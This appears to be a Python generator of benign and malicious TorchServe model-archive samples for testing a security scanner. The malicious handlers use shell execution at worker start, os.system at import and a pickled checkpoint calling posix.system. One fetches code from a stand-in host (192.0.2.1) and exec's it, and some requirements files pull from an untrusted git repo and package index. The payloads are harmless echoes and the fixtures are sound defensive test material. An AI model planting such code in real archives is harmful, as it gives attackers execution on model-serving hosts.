"""TorchServe `.mar` samples (issue 16): zips laid out as torch-model-archiver 0.12 writes them
(every file at the root, `MAR-INF/MANIFEST.json` written last), with the handler, model file,
weights and requirements TorchServe imports, loads and installs.

Payloads are harmless (`echo quarantine-sample`, 192.0.2.0/24). Standard library only; helpers
come from generate.py (passed in as `g`).
"""

from __future__ import annotations

import json

CLEAN, SUSPICIOUS, MALICIOUS = "clean", "suspicious", "malicious"
CMD = "echo quarantine-sample"

RULES = {
    "MAR001": ("torchserve-handler-malicious", MALICIOUS),
    "MAR002": ("torchserve-handler-suspicious", SUSPICIOUS),
    "MAR003": ("torchserve-manifest", SUSPICIOUS),
    "MAR004": ("torchserve-requirements-source", SUSPICIOUS),
}

HANDLER = '''\
"""A custom image handler: softmax over the logits, top class by name."""
import json
import os

import torch
import torch.nn.functional as F
from ts.torch_handler.image_classifier import ImageClassifier


class TinyClassifier(ImageClassifier):
    topk = 1

    def initialize(self, context):
        super().initialize(context)
        model_dir = context.system_properties.get("model_dir")
        with open(os.path.join(model_dir, "index_to_name.json")) as f:
            self.names = json.load(f)

    def postprocess(self, data):
        probs = F.softmax(data, dim=1)
        top = torch.argmax(probs, dim=1)
        return [self.names.get(str(int(i)), str(int(i))) for i in top]
'''

MODEL = '''\
import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(2, 2)

    def forward(self, x):
        return self.fc(x)
'''

HANDLER_SUBPROCESS = '''\
import subprocess

from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def initialize(self, context):
        subprocess.run("%s", shell=True)
        super().initialize(context)
''' % CMD

HANDLER_DOWNLOAD = '''\
import urllib.request

from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def handle(self, data, context):
        code = urllib.request.urlopen("http://192.0.2.1/stage2.py").read()
        exec(code)
        return super().handle(data, context)
'''

MODEL_OS_SYSTEM = '''\
import os

import torch
from torch import nn

os.system("%s")


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(2, 2)
''' % CMD


def manifest(handler: str, **model) -> bytes:
    body = {"modelName": "tiny", "serializedFile": "model.pt", "handler": handler}
    body.update(model)
    body["modelVersion"] = "1.0"
    return json.dumps({"createdOn": "30/11/2026 22:00:00", "runtime": "python", "model": body,
                       "archiverVersion": "0.12.0"}, indent=4).encode()


def mar(g, handler: str, *members: tuple[str, bytes], weights: bytes | None = None, **model) -> bytes:
    files = [("model.pt", weights if weights is not None else g.torch_state_dict_pt())]
    files += list(members)
    files.append(("MAR-INF/MANIFEST.json", manifest(handler, **model)))
    return g.zip_of(*files)


NAMES = json.dumps({"0": "cat", "1": "dog"}).encode()


def samples(register, g) -> None:
    register("benign/torchserve_custom_handler.mar", CLEAN,
             desc="a TorchServe archive with a custom handler (ImageClassifier subclass reading "
                  "index_to_name.json in initialize), model.py and a torch.save state_dict",
             build=lambda: mar(g, "handler.py", ("handler.py", HANDLER.encode()), ("model.py", MODEL.encode()),
                               ("index_to_name.json", NAMES), modelFile="model.py"))
    register("benign/torchserve_builtin_handler.mar", CLEAN,
             desc="a TorchServe archive served by the built-in image_classifier handler (not in the archive), "
                  "with requirements pinned to PyPI releases",
             build=lambda: mar(g, "image_classifier", ("index_to_name.json", NAMES),
                               ("requirements.txt", b"torchvision==0.20.1\npillow>=10 ; python_version >= '3.9'\n"),
                               requirementsFile="requirements.txt"))
    register("malicious/torchserve_handler_subprocess.mar", MALICIOUS, ("MAR001", "subprocess.run"),
             desc="a TorchServe handler whose initialize runs subprocess.run(..., shell=True) when each worker starts",
             build=lambda: mar(g, "handler.py", ("handler.py", HANDLER_SUBPROCESS.encode())))
    register("malicious/torchserve_handler_download_exec.mar", MALICIOUS, ("MAR001", "urlopen"),
             desc="a TorchServe handler whose handle fetches code over HTTP and exec's it on every request",
             build=lambda: mar(g, "handler.py:handle", ("handler.py", HANDLER_DOWNLOAD.encode())))
    register("malicious/torchserve_model_file_os_system.mar", MALICIOUS, ("MAR001", "os.system"),
             desc="a TorchServe archive whose model file (imported by the handler) runs os.system at import",
             build=lambda: mar(g, "handler.py", ("handler.py", HANDLER.encode()),
                               ("model.py", MODEL_OS_SYSTEM.encode()), ("index_to_name.json", NAMES),
                               modelFile="model.py"))
    register("malicious/torchserve_pickle_weights.mar", MALICIOUS, ("PKL001", "posix.system"),
             desc="a TorchServe archive whose serialized model is a torch checkpoint calling posix.system",
             build=lambda: mar(g, "image_classifier", weights=g.torch_zip_payload()))
    register("malicious/torchserve_missing_handler.mar", SUSPICIOUS, ("MAR003", "model.handler: ts_helpers"),
             desc="a TorchServe manifest naming a handler that is neither in the archive nor built in "
                  "(TorchServe imports whatever module of that name the worker's path holds)",
             build=lambda: mar(g, "ts_helpers"))
    register("malicious/torchserve_requirements_git.mar", SUSPICIOUS, ("MAR004", "git+https://192.0.2.1"),
             ("MAR004", "--extra-index-url"),
             desc="a TorchServe archive whose requirements install from a git repository and an extra index "
                  "(run by pip when install_py_dep_per_model is on)",
             build=lambda: mar(g, "image_classifier",
                               ("requirements.txt", b"torchvision==0.20.1\n--extra-index-url http://192.0.2.1/simple\n"
                                                    b"tinyaug @ git+https://192.0.2.1/tinyaug.git\n"),
                               requirementsFile="requirements.txt"))


def tgz(g, folder: str, handler: str, *members: tuple[str, bytes], **model) -> bytes:
    """`torch-model-archiver --archive-format tgz`: a gzip'd tar with every file under
    `<model name>/`, the manifest last."""
    files = [(f"{folder}/model.pt", g.torch_state_dict_pt())]
    files += [(f"{folder}/{name}", data) for name, data in members]
    files.append((f"{folder}/MAR-INF/MANIFEST.json", manifest(handler, **model)))
    return g.gzip_bytes(g.build_tar(*files), 9)


def folder(register, g, path: str, expected: dict, desc: str, handler: str,
           *members: tuple[str, bytes], **model) -> None:
    """`torch-model-archiver --archive-format no-archive`: the archive's files in a folder, each
    a sample of its own (`expected`: file name -> (verdict, findings))."""
    files = [("model.pt", g.torch_state_dict_pt)] + [(n, (lambda d=d: d)) for n, d in members]
    files.append(("MAR-INF/MANIFEST.json", lambda: manifest(handler, **model)))
    for name, build in files:
        verdict, findings = expected.get(name, (CLEAN, ()))
        register(f"{path}/{name}", verdict, *findings, desc=f"{desc}: {name}", build=build)


def tail_samples(register, g) -> None:
    register("benign/torchserve_tgz.tar.gz", CLEAN,
             desc="a TorchServe archive written as torch-model-archiver --archive-format tgz writes it "
                  "(files under tiny/, tiny/MAR-INF/MANIFEST.json last) with a custom handler and model file",
             build=lambda: tgz(g, "tiny", "handler.py", ("handler.py", HANDLER.encode()),
                               ("model.py", MODEL.encode()), ("index_to_name.json", NAMES),
                               modelFile="model.py"))
    register("malicious/torchserve_tgz_handler_subprocess.tar.gz", MALICIOUS, ("MAR001", "subprocess.run"),
             ("MAR004", "git+https://192.0.2.1"),
             desc="a tgz TorchServe archive whose handler runs subprocess.run(..., shell=True) in initialize "
                  "and whose requirements install from a git repository",
             build=lambda: tgz(g, "tiny", "handler.py", ("handler.py", HANDLER_SUBPROCESS.encode()),
                               ("requirements.txt", b"tinyaug @ git+https://192.0.2.1/tinyaug.git\n"),
                               requirementsFile="requirements.txt"))
    folder(register, g, "benign/torchserve_folder", {},
           "an unpacked TorchServe archive (torch-model-archiver --archive-format no-archive) with a custom handler",
           "handler.py", ("handler.py", HANDLER.encode()), ("model.py", MODEL.encode()),
           ("index_to_name.json", NAMES), ("requirements.txt", b"torchvision==0.20.1\n"),
           modelFile="model.py", requirementsFile="requirements.txt")
    folder(register, g, "malicious/torchserve_folder_subprocess",
           {"handler.py": (MALICIOUS, (("MAR001", "subprocess.run"),)),
            "requirements.txt": (SUSPICIOUS, (("MAR004", "--extra-index-url"),))},
           "an unpacked TorchServe archive (no-archive) whose handler shells out in initialize "
           "and whose requirements add a package index",
           "handler.py", ("handler.py", HANDLER_SUBPROCESS.encode()),
           ("requirements.txt", b"--extra-index-url http://192.0.2.1/simple\ntorchvision==0.20.1\n"),
           requirementsFile="requirements.txt")
